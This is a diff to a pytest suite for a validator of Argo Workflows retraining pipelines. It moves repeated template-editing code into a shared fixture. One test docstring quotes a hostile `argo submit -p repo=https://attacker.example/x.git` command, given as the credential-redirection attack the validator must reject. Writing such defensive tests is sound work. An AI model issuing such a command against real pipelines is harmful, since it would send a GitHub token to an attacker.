@@ -7,6 +7,7 @@ against the full Argo Workflows CRDs and held to the `mlplat retrain` command li
 from __future__ import annotations
 
 import re
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -21,9 +22,25 @@ CRDS = REPO.parent / "shared" / "reference" / "crds"
 PIPELINES = sorted(p.parent for p in REPO.glob("apps/*/training/kustomization.yaml"))
 
 
-def _workflow_template(repo: Path, app: str) -> tuple[Path, str]:
-    path = repo / "apps" / app / "training" / "workflowtemplate.yaml"
-    return path, path.read_text()
+PipelineEdit = Callable[..., tuple[int, dict[str, Any]]]
+
+
+@pytest.fixture
+def validate_edited(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> PipelineEdit:
+    """validate_edited(app, old, new, *options): validate's exit code and report for the pipeline of
+    `app` in a copy of the repository whose WorkflowTemplate has its first `old` (a step's, where several
+    steps share it) replaced by `new`; `options` go before the pipeline folder."""
+
+    def run(app: str, old: str, new: str, *options: str) -> tuple[int, dict[str, Any]]:
+        repo = copy_repo(tmp_path)
+        pipeline = repo / "apps" / app / "training"
+        template = pipeline / "workflowtemplate.yaml"
+        text = template.read_text()
+        assert old in text, f"{template}: {old!r} not found"
+        template.write_text(text.replace(old, new, 1))
+        return run_json(capsys, "--repo", str(repo), *options, str(pipeline))
+
+    return run
 
 
 def test_whole_repo_run_validates_each_pipeline_once_and_they_pass(
@@ -43,13 +60,8 @@ def test_an_app_folder_brings_its_pipeline(capsys: pytest.CaptureFixture[str]) -
     assert code == 0, report["findings"]
 
 
-def test_a_misspelled_flag_fails_validate_not_the_run(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    repo = copy_repo(tmp_path)
-    path, text = _workflow_template(repo, "iris-classifier")
-    path.write_text(text.replace("- --checkpoint-dir\n", "- --checkpoints-dir\n", 1))
-    code, report = run_json(capsys, "--repo", str(repo), str(path.parent))
+def test_a_misspelled_flag_fails_validate_not_the_run(validate_edited: PipelineEdit) -> None:
+    code, report = validate_edited("iris-classifier", "- --checkpoint-dir\n", "- --checkpoints-dir\n")
     found = [f for f in report["findings"] if f["rule"] == "MLP-RETRAIN-STEP"]
     assert code == 1 and found, report
     assert "'--checkpoints-dir'" in found[0]["message"], found
@@ -73,38 +85,30 @@ def test_a_misspelled_flag_fails_validate_not_the_run(
     ],
 )
 def test_a_wrong_step_app_or_missing_flag_is_named(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str], old: str, new: str, says: str
+    validate_edited: PipelineEdit, old: str, new: str, says: str
 ) -> None:
-    repo = copy_repo(tmp_path)
-    path, text = _workflow_template(repo, "iris-classifier")
-    assert old in text, old
-    path.write_text(text.replace(old, new, 1))
-    code, report = run_json(capsys, "--repo", str(repo), str(path.parent))
+    code, report = validate_edited("iris-classifier", old, new)
     messages = [f["message"] for f in report["findings"] if f["rule"] == "MLP-RETRAIN-STEP"]
     assert code == 1 and any(says in m for m in messages), report
 
 
-def test_a_step_run_as_the_mlplat_script_fails_as_the_image_has_none(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_a_step_run_as_the_mlplat_script_fails_as_the_image_has_none(validate_edited: PipelineEdit) -> None:
     """The image installs no console script: `[mlplat, retrain, ...]` would die with "not found"."""
-    repo = copy_repo(tmp_path)
-    path, text = _workflow_template(repo, "iris-classifier")
-    old = "command: [python, -m, mlplat.retrain]\n        args:\n"
-    assert old in text, old
-    path.write_text(text.replace(old, "command: [mlplat]\n        args:\n          - retrain\n", 1))
-    code, report = run_json(capsys, "--repo", str(repo), str(path.parent))
+    code, report = validate_edited(
+        "iris-classifier",
+        "command: [python, -m, mlplat.retrain]\n        args:\n",
+        "command: [mlplat]\n        args:\n          - retrain\n",
+    )
     messages = [f["message"] for f in report["findings"] if f["rule"] == "MLP-RETRAIN-STEP"]
     assert code == 1 and messages == ["`mlplat retrain fetch`: the image has no `mlplat` command"], report
 
 
-def test_a_pipeline_without_its_mutex_can_overlap_and_fails(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    repo = copy_repo(tmp_path)
-    path, text = _workflow_template(repo, "churn-gbm")
-    path.write_text(re.sub(r"  synchronization:\n    mutexes:\n      - name: retrain-churn-gbm\n", "", text))
-    code, report = run_json(capsys, "--repo", str(repo), str(path.parent))
+def test_a_pipeline_without_its_mutex_can_overlap_and_fails(validate_edited: PipelineEdit) -> None:
+    code, report = validate_edited(
+        "churn-gbm",
+        "  synchronization:\n    mutexes:\n      - name: retrain-churn-gbm\n",
+        "",
+    )
     assert code == 1 and rules(report) == {"MLP-RETRAIN-MUTEX"}, report
 
 
@@ -115,24 +119,24 @@ def test_a_pipeline_without_its_mutex_can_overlap_and_fails(
     ["retrain-iris-classifier", "retrain"],
 )
 def test_a_pipeline_holding_another_apps_mutex_would_overlap_its_own_runs_and_fails(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str], mutex: str
+    validate_edited: PipelineEdit, mutex: str
 ) -> None:
-    repo = copy_repo(tmp_path)
-    path, text = _workflow_template(repo, "churn-gbm")
-    path.write_text(text.replace("      - name: retrain-churn-gbm\n", f"      - name: {mutex}\n", 1))
-    code, report = run_json(capsys, "--repo", str(repo), str(path.parent))
+    code, report = validate_edited(
+        "churn-gbm", "      - name: retrain-churn-gbm\n", f"      - name: {mutex}\n"
+    )
     found = [f for f in report["findings"] if f["rule"] == "MLP-RETRAIN-MUTEX"]
     assert code == 1 and len(found) == 1, report
     assert "not its app's own 'retrain-churn-gbm'" in found[0]["message"], found
 
 
-def test_a_field_the_argo_crd_does_not_have_fails_against_the_schema(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    repo = copy_repo(tmp_path)
-    path, text = _workflow_template(repo, "iris-classifier")
-    path.write_text(text.replace("  activeDeadlineSeconds: 21600", "  activeDeadline: 21600", 1))
-    code, report = run_json(capsys, "--repo", str(repo), "--schemas", str(CRDS), str(path.parent))
+def test_a_field_the_argo_crd_does_not_have_fails_against_the_schema(validate_edited: PipelineEdit) -> None:
+    code, report = validate_edited(
+        "iris-classifier",
+        "  activeDeadlineSeconds: 21600",
+        "  activeDeadline: 21600",
+        "--schemas",
+        str(CRDS),
+    )
     assert code == 1 and "MLP-UNKNOWN-FIELD" in rules(report), report
 
 
@@ -228,15 +232,11 @@ def test_pipeline_pushes_to_the_repository_the_program_names(folder: Path) -> No
     ],
 )
 def test_a_submitter_cannot_steer_where_a_steps_credential_goes(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str], old: str, new: str, parameter: str
+    validate_edited: PipelineEdit, old: str, new: str, parameter: str
 ) -> None:
     """`argo submit -p repo=https://attacker.example/x.git` (or the UI) must not get the GitHub token
     pushed there, nor point the artifact store's credentials at data of the submitter's choice."""
-    repo = copy_repo(tmp_path)
-    path, text = _workflow_template(repo, "iris-classifier")
-    assert old in text, old
-    path.write_text(text.replace(old, new, 1))
-    code, report = run_json(capsys, "--repo", str(repo), str(path.parent))
+    code, report = validate_edited("iris-classifier", old, new)
     found = [f for f in report["findings"] if f["rule"] == "MLP-RETRAIN-PARAMETER"]
     assert code == 1 and len(found) == 1, report
     assert f"workflow parameter {parameter!r}" in found[0]["message"], found
@@ -464,15 +464,11 @@ REF = "  artifactRepositoryRef:\n    configMap: artifact-repositories\n    key: 
     ],
 )
 def test_a_pipeline_reaching_another_apps_artifacts_or_none_fails(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str], old: str, new: str, path: str
+    validate_edited: PipelineEdit, old: str, new: str, path: str
 ) -> None:
     """Every pipeline runs in namespace argo-workflows, where any pod may mount any Secret: per-app MinIO
     users keep apps apart only if each pipeline names its own artifact repository and Secret."""
-    repo = copy_repo(tmp_path)
-    template, text = _workflow_template(repo, "churn-gbm")
-    assert old in text, old
-    template.write_text(text.replace(old, new, 1))
-    code, report = run_json(capsys, "--repo", str(repo), str(template.parent))
+    code, report = validate_edited("churn-gbm", old, new)
     found = [(f["rule"], f["path"]) for f in report["findings"]]
     assert code == 1 and found == [("MLP-RETRAIN-ARTIFACTS", path)], report
 
